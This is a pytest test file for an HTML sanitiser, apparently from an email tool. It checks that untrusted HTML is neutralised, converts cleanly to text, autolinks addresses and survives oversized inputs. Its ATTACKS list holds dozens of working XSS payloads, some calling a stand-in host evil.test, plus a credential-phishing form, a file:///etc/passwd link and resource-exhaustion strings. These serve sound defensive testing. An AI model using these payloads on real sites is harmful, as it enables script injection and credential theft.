"""HTML from strangers is harmless when shown, and readable as text."""

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from firstline.kit import html

# What browsers have been made to run, or to load, in one way or another.
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x' onerror\n=\nalert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='java&NewLine;script:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.test'>x</a>",
    "<a href='/admin/delete'>x</a>",
    "<a href='https://a.test' target=_blank onclick=alert(1) style='position:fixed'>x</a>",
    "<a href='https://a.test' ping='https://evil.test'>x</a>",
    "<iframe src=https://evil.test></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='https://evil.test'><input name=password><button>Sign in</button></form>",
    "<isindex action=javascript:alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href='https://evil.test/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<p style='background:url(https://evil.test/x)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<table background='https://evil.test/x'><tr><td background='https://evil.test/y'>x</table>",
    "<body onload=alert(1) background=https://evil.test/x>",
    "<video src=https://evil.test/x onerror=alert(1)></video>",
    "<video poster=https://evil.test/x></video>",
    "<audio src=x onerror=alert(1)>",
    "<picture><source srcset='https://evil.test/x'><img src='https://evil.test/y'></picture>",
    "<img srcset='https://evil.test/x 1x'>",
    "<img src='https://evil.test/x' lowsrc='https://evil.test/y'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src=javascript:alert(1)>",
    "<img src=mailto:mei@a.test>",
    "<img alt='<img src=https://evil.test/x onerror=alert(1)>' src='https://evil.test/ src=\"x\"'>",
    "<img data-src=javascript:alert(1)>",
    "<img title=' src=\"https://evil.test/x\"' src='HTTPS://evil.test/y'>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1) contenteditable autofocus onfocus=alert(1)>x</x>",
    "<p id=submit class=button name=form>x</p>",
    "<div id=__proto__><a name=attributes>x</a></div>",
    "<q cite='javascript:alert(1)'>x</q>",
    "<ins cite='https://evil.test'>x</ins>",
    "<div><!--[if IE]><script>alert(1)</script><![endif]--></div>",
    "<div>" * 2_000 + "<script>alert(1)</script>",
    "<img src=x onerror=alert(1) " + " ".join(f"a{i}=1" for i in range(400)) + ">",
]

TAG = re.compile(r"<(/?)([a-zA-Z][^\s/>]*)((?:\s[^\s=>]+=\"[^\"]*\")*)>")
ATTRIBUTE = re.compile(r"\s([^\s=>]+)=\"([^\"]*)\"")
MAY_STAND = {"href", "title", "src", "data-src", "alt", "width", "height", "start", "colspan", "rowspan", "align"} | {
    "dir",
    "lang",
    "rel",
}


def assert_harmless(cleaned: str) -> None:
    """Judged apart from the sanitiser: every `<` opens a known tag with known attributes and known addresses."""
    assert cleaned.count("<") - len(TAG.findall(cleaned)) == sum(
        value.count("<") for _, _, attributes in TAG.findall(cleaned) for _, value in ATTRIBUTE.findall(attributes)
    )
    for _, tag, attributes in TAG.findall(cleaned):
        assert tag in html.TAGS
        for name, value in ATTRIBUTE.findall(attributes):
            assert name in MAY_STAND
            if name == "src":
                assert value.lower().startswith("cid:")
            elif name == "href":
                assert value.lower().startswith(("http://", "https://", "mailto:", "cid:"))
            elif name == "data-src":
                assert value.lower().startswith(("http://", "https://"))


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack[:60])
def test_an_attack_does_nothing(attack):
    cleaned = html.clean(attack)
    assert_harmless(cleaned)
    assert html.clean(cleaned) == cleaned


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack[:60])
def test_an_attack_written_as_text_or_markdown_does_nothing(attack):
    assert_harmless(html.from_text(attack))
    assert_harmless(html.markdown(attack))
    assert_harmless(html.from_text(html.text(attack)))


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from([*ATTACKS[:72], "<p>", "</p>", "<b>", '"', "'", "<", ">", "&lt;", "x"]), max_size=6))
def test_attacks_joined_do_nothing(parts):
    assert_harmless(html.clean("".join(parts)))


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_any_text_keeps_its_words(text):
    shown = html.from_text(text)
    assert_harmless(shown)
    kept = re.sub(r"\s", "", html.text(shown))
    assert kept == re.sub(r"\s", "", text.replace("\x00", ""))


def test_a_remote_picture_waits_for_the_reader():
    cleaned = html.clean('<img src="https://a.test/x.png" alt="chart"><img src="cid:shot@1">')
    assert cleaned == '<img data-src="https://a.test/x.png" alt="chart"><img src="cid:shot@1">'


def test_a_remote_picture_keeps_its_address_whatever_its_other_attributes_say():
    cleaned = html.clean('<img alt="x src=" title="data-src" src="https://a.test/x.png">')
    assert cleaned == '<img alt="x src=" title="data-src" data-src="https://a.test/x.png">'


def test_a_picture_of_one_pixel_is_dropped():
    assert html.clean('hi<img src="https://a.test/open?id=7" width="1" height="1">') == "hi"


def test_a_link_is_kept_and_opens_no_door_back():
    assert html.clean('<a href="https://a.test/?a=1&amp;b=2">x</a>') == (
        '<a href="https://a.test/?a=1&amp;b=2" rel="noopener noreferrer">x</a>'
    )
    assert 'href="mailto:bo@a.test"' in html.clean("<a href=mailto:bo@a.test>x</a>")


def test_formatting_and_tables_are_kept():
    kept = '<p>你好 <b>a</b></p><table><tbody><tr><td colspan="2">x</td></tr></tbody></table>'
    assert html.clean(kept) == kept


TEXTS = [
    ("<p>Hello&nbsp;<b>Mei</b></p><p>Bye</p>", "Hello Mei\n\nBye"),
    ("one<br>two<br><br>three", "one\ntwo\n\nthree"),
    ("<table><tr><th>Room</th><th>Floor</th></tr><tr><td>301</td><td>3</td></tr></table>", "Room | Floor\n301 | 3"),
    ("<table><tr><td><p>301</p></td><td><p>3</p></td></tr></table>", "301 | 3"),
    ("<ul><li>one</li><li><p>two</p></li></ul>", "- one\n- two"),
    ("<ol start=3><li>one</li><li>two</li></ol>", "3. one\n4. two"),
    ('see <a href="https://a.test/x">the page</a>', "see the page (https://a.test/x)"),
    ('<a href="https://a.test/">https://a.test</a>', "https://a.test"),
    ('<a href="mailto:bo@a.test?subject=x">Bo</a>', "Bo (bo@a.test)"),
    ("<blockquote>old<br>words</blockquote>new", "> old\n> words\n>\nnew"),
    ("<pre>a\n  b</pre>", "a\n  b"),
    ('<img src="cid:x" alt="Screenshot">', "[Screenshot]"),
    ('words<img src="https://a.test/t.gif" width="1" height="1" alt="x">', "words"),
    ("<style>p{}</style><script>x</script><p>only   these\nwords</p>", "only these words"),
    ("<title>x</title>", ""),
    ("5 &lt; 6 &amp;amp; 7", "5 < 6 &amp; 7"),
]


@pytest.mark.parametrize(("source", "text"), TEXTS)
def test_html_reads_well_as_text(source, text):
    assert html.text(source) == text


LINKS = [
    ("see https://a.test/x.", "https://a.test/x"),
    ("(https://a.test/x)", "https://a.test/x"),
    ("https://a.test/x_(y)", "https://a.test/x_(y)"),
    ("打开https://a.test/x，谢谢", "https://a.test/x"),
    ("HTTP://A.test/?a=1&b=2", "HTTP://A.test/?a=1&amp;b=2"),
    ("“https://a.test”", "https://a.test"),
]


@pytest.mark.parametrize(("text", "address"), LINKS)
def test_an_address_in_text_becomes_a_link_without_the_punctuation_around_it(text, address):
    for made in (html.from_text(text), html.markdown(text)):
        assert re.findall(r'href="([^"]*)"', made) == [address]


def test_text_without_an_address_gets_no_link():
    assert "<a" not in html.from_text("javascript:alert(1) https:// ftp://a.test mei@a.test")


def test_paragraphs_and_line_breaks_of_text_are_kept():
    assert html.from_text("a\nb\r\n\r\n\n  c") == "<p>a<br>b</p>\n<p>&nbsp;&nbsp;c</p>"


def test_markdown_is_formatted_and_its_html_stays_text():
    made = html.markdown("**bold** `https://a.test`\n\n- one\n\n| a |\n|---|\n| 1 |\n\n<b>x</b>")
    assert "<strong>bold</strong>" in made
    assert "<code>https://a.test</code>" in made
    assert "<li>one</li>" in made
    assert "<td>1</td>" in made
    assert "&lt;b&gt;x&lt;/b&gt;" in made


# A megabyte of each takes a naive pipeline minutes, or all memory.
BOMBS = [
    "<div>",
    "<b><p>",
    "<a ",
    "<",
    "<!--",
    "&amp;a",
    "x&",
    '<a "',
    "<table><tr><td>",
    "x</b>",
    "<blockquote>",
    "<p>",
]


@pytest.mark.heavy
@pytest.mark.parametrize("unit", BOMBS)
def test_a_megabyte_of_oddity_is_cleaned_in_bounded_time(unit):
    source = unit * (1_000_000 // len(unit))
    before = time.process_time()
    html.clean(source)
    html.text(source)
    assert time.process_time() - before < 30


def test_thousands_of_attributes_are_no_bomb():
    before = time.process_time()
    assert_harmless(html.clean("<a " + " ".join(f"x{i}=1" for i in range(100_000)) + ">x"))
    assert time.process_time() - before < 1


def test_formatting_left_open_cannot_multiply():
    source = "".join(f"<b id=x{i}><p>" for i in range(300)) + "</p><p>x" * 20_000
    assert len(html.clean(source)) < 10_000_000


def test_words_of_html_too_odd_to_parse_are_still_shown():
    assert "help me" in html.clean("<div>" * 5_000 + "help me")
    assert "help me" in html.text("<div>" * 5_000 + "help me")


@pytest.mark.parametrize("row", ["\t", "a" + "\t" * 10 + "b", "\t" * 10 + "b\n\n", " ", "a  ", "\t b"])
def test_blanks_by_the_hundred_thousand_are_not_drawn_at_many_times_their_length(row: str) -> None:
    text = "first" + row * (99_980 // len(row)) + "last"
    drawn = html.from_text(text)
    assert len(drawn) < 500_000
    assert "first" in drawn
    assert "last" in drawn


def test_blanks_of_a_usual_text_are_kept() -> None:
    assert html.from_text("a\t\tb") == "<p>a&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp; b</p>"


@pytest.mark.parametrize(
    "written",
    [
        "<textarea>The gateway</textarea>",
        "<select><option>The gateway</select>",
        "<object data=x><b>The</b> gateway</object>",
    ],
)
def test_what_was_typed_into_a_field_of_an_email_is_read(written: str) -> None:
    for said in (html.text(f"<p>Hello</p>{written}"), html.clean(f"<p>Hello</p>{written}")):
        assert "The gateway" in said.replace("<b>The</b>", "The")
        assert "<object" not in said
